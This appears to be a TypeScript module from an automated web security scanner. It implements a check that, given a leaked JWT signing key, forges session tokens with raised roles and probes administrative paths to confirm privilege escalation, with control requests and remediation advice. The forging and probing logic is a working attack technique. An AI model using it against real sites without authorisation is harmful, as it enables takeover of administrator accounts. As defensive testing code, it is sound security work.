import { randomBytes } from 'node:crypto';
import { elevations } from '../checks/access/elevations.ts';
import { type CheckContext, defineChainStep } from '../checks/contract.ts';
import { likeliest } from '../checks/inputs/at-most.ts';
import { commonAdminPaths, isAdminPath } from '../checks/pages/admin-paths.ts';
import {
  type CarriedJwt,
  forgedFrom,
  hashOf,
  jwtsOf,
  keyThatSigned,
  signJwt,
  spellingOf,
} from '../checks/sessions/jwt.ts';
import { textsShown } from '../checks/sessions/private-text.ts';
import type { Candidate } from '../model/candidate.ts';
import { claim, type Experiment, type ForgedToken, type Step } from '../model/experiment.ts';
import type { Fact } from '../model/fact.ts';
import type { Exchange } from '../model/http.ts';
import type { Identity } from '../model/identity.ts';
import { isHtml } from '../probe/http/document-type.ts';

type Forged = {
  identity: string;
  url: string;
  headers: [string, string][];
  forged: ForgedToken;
  /** The same claims signed with a key that nobody has. */
  worthlessHeaders: [string, string][];
  worthlessToken: string;
  /** A text that only the forged session is shown. */
  text: string;
  change: string;
};

/** Addresses that are tried with each way to raise the role. */
const maxPaths = 30;
const maxTries = 80;

/** With the key of the site a user makes a session of their own with more rights. Source: CWE-321, RFC 8725 §3.5. */
export const forgeSession = defineChainStep<Forged>({
  id: 'chains.forge-session',
  title: 'Privilege escalation by a forged session token',
  cwe: 321,
  owasp: 'A04:2025',
  cvss: 'CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:U/C:H/I:H/A:N',
  risk: 'safe',
  needs: [{ kind: 'signing-secret' }],
  goal: 'session(admin)',
  cost: 40,

  async detect(context, [key]) {
    if (key?.secret === undefined) return [];
    const tried = new Set<string>();
    for (const identity of Object.values(context.identities)) {
      for (const carried of jwtsOf(identity)) {
        const rights = rightsIn(identity, carried);
        if (tried.has(rights)) continue;
        tried.add(rights);
        const forged = await forge(context, identity, carried, key, key.secret);
        if (forged) return [candidateFor(forged)];
      }
    }
    return [];
  },

  confirm: (_context, { data }) => data && experimentFor(data),

  gives: {
    kinds: ['session(admin)'],
    facts: ({ data }) =>
      data
        ? [
            {
              kind: 'session(admin)',
              subject: new URL(data.url).origin,
              attributes: { identity: data.identity, url: data.url },
              secret: data.forged.token,
            },
          ]
        : [],
  },

  explain: {
    description:
      'Sessions are tokens that carry the rights of their user, and the key that signs them is known. A token with the user’s own name and a higher role was signed with it, and the site took it for its own.',
    impact:
      'Whoever has the key has every account, the administrators’ included: they read and change everything, and need no password and no second factor.',
    sends:
      'Makes tokens of a test identity with a higher role, signs them with the leaked key, and sends them in GET requests to up to 30 administrative addresses (80 tries).',
    proves:
      'The forged token opens a page with a text that neither the user’s real token nor the same claims under a random key show. An attacker makes themselves an administrator.',
    remedy:
      'Replace the key and keep it where only the signing service can read it. Better, sign with a private key (RS256, ES256, EdDSA) that the services that verify do not have, and do not take rights from the token: look the role up by `sub` on each request, so that a forged claim is worth nothing. Keep tokens short-lived and check `iss`, `aud` and `exp`.',
    references: [
      'RFC 8725 (JWT Best Current Practices): https://www.rfc-editor.org/rfc/rfc8725',
      'CWE-321: https://cwe.mitre.org/data/definitions/321.html',
      'WSTG-SESS-10: https://owasp.org/www-project-web-security-testing-guide/stable/4-Web_Application_Security_Testing/06-Session_Management_Testing/10-Testing_JSON_Web_Tokens',
    ],
  },
});

const candidateFor = (forged: Forged): Candidate<Forged> => ({
  location: { url: forged.url },
  detail: `A token of "${forged.identity}" with ${forged.change} was accepted.`,
  data: forged,
});

/** What a token says of its user's rights, and what can be made of that: tokens of which it is the same are raised to the same. */
const rightsIn = ({ role }: Identity, { jwt: { header, claims } }: CarriedJwt): string =>
  JSON.stringify([role, header.alg, Object.keys(claims).sort(), elevations(claims).map(({ change }) => change)]);

/** The first way to raise the role that opens a page which the identity itself is refused. */
async function forge(
  context: CheckContext,
  identity: Identity,
  carried: CarriedJwt,
  fact: Fact,
  secret: string,
): Promise<Forged | undefined> {
  const key = keyThatSigned(carried.jwt, secret);
  if (!key) return undefined;
  let tries = 0;
  const urls = pathsFor(context, fact);
  for (const [index, url] of urls.entries()) {
    const own = await context.http.get(url, { fresh: true, jar: identity.jar, headers: identity.headers });
    for (const { claims, change } of elevations(carried.jwt.claims)) {
      if (++tries > maxTries) {
        likeliest(context, urls, index, 'addresses of the administration');
        return undefined;
      }
      const token = signJwt(carried.jwt.header, prolonged(claims, context.now()), key);
      const headers = carried.headersWith(url, token);
      const answer = await context.http.get(url, { fresh: true, headers });
      const text = shownOnlyTo(context, answer, own);
      if (text === undefined) continue;
      const worthlessToken = signJwt(carried.jwt.header, prolonged(claims, context.now()), randomBytes(64));
      const worthlessHeaders = carried.headersWith(url, worthlessToken);
      const signature = { hash: hashOf(carried.jwt), key: spellingOf(secret, key) };
      const forged = forgedFrom(identity.name, carried, { token, claims, signature });
      return { identity: identity.name, url, headers, forged, worthlessHeaders, worthlessToken, text, change };
    }
  }
  return undefined;
}

/** A token that is about to end would not live through two trials. A quarter of an hour does, and no more is needed. */
function prolonged(claims: Record<string, unknown>, now: Date): Record<string, unknown> {
  const end = Math.floor(now.getTime() / 1_000) + 900;
  return typeof claims.exp === 'number' && claims.exp < end ? { ...claims, exp: end } : claims;
}

/** Likely addresses of administration pages: those seen, those named in the source, and common ones. */
function pathsFor(context: CheckContext, fact: Fact): string[] {
  const { surface, surfaces } = context;
  const origin = new URL(surface.url).origin;
  const views = [surface, ...Object.values(surfaces)];
  const seen = views.flatMap(({ pages, skipped }) => [...pages, ...skipped].map(({ url }) => url));
  const known = seen.filter((url) => URL.parse(url)?.origin === origin && isAdminPath(new URL(url).pathname));
  const fromSource = (fact.attributes.adminPaths ?? '').split(' ').filter(Boolean);
  const urls = [...known, ...[...fromSource, ...commonAdminPaths].map((path) => origin + path)];
  return likeliest(context, [...new Set(urls)], maxPaths, 'addresses of the administration');
}

/** A text of an answer that succeeded and that the other answer lacks. Texts with digits may change; headings do not. */
function shownOnlyTo(context: CheckContext, answer: Exchange, other: Exchange): string | undefined {
  if (answer.status !== 200) return undefined;
  const type = answer.header('content-type') ?? '';
  const texts = isHtml(answer) || /json/i.test(type) ? textsShown(context, answer) : new Set<string>();
  const own = [...texts].filter((text) => !other.text.includes(text));
  return own.find((text) => !/[\d@]/.test(text)) ?? own[0];
}

function experimentFor(data: Forged): Experiment {
  const { identity, url, text } = data;
  const opened = [
    claim('status', 'equals', '200'),
    claim('body', 'contains', text, 'A text of the page that only administrators are shown.'),
  ];
  const forgedStep = (headers: [string, string][], token: string, note: string): Step => ({
    http: { url, headers, secrets: [token], forged: data.forged },
    note,
    expect: opened,
  });
  return {
    steps: [
      forgedStep(
        data.headers,
        data.forged.token,
        `The page opens with a token of "${identity}" that has ${data.change}.`,
      ),
    ],
    control: [
      {
        http: { url },
        identity,
        note: 'With the token that the site itself gave to this user, the page is not shown.',
        expect: [claim('body', 'not-contains', text)],
      },
      forgedStep(
        data.worthlessHeaders,
        data.worthlessToken,
        'The same claims signed with another key do not open it: the signature is what counts.',
      ),
    ],
  };
}
